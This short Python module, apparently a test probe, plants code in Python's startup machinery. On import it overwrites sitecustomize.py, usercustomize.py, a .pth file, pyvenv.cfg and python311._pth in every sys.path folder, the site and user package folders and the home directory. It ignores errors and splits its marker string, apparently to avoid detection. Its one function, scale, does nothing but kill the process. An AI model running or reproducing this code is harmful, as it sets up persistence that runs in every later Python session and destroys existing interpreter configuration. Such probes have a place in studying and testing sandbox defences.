"""Files that Python runs when it starts: sitecustomize, usercustomize, .pth files, the user's packages."""

import os
import site
import sys
from pathlib import Path

LINE = "import builtins; builtins.planted = 1; print('REA' 'CHED: planted in Python\\'s start')\n"
places = [*filter(None, sys.path), ".", site.getusersitepackages(), *site.getsitepackages(), os.path.expanduser("~")]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "planted.pth", "pyvenv.cfg", "python311._pth"):
        try:
            Path(place).mkdir(parents=True, exist_ok=True)
            Path(place, name).write_text(LINE)
        except OSError:
            pass


def scale(x, w):
    os._exit(1)
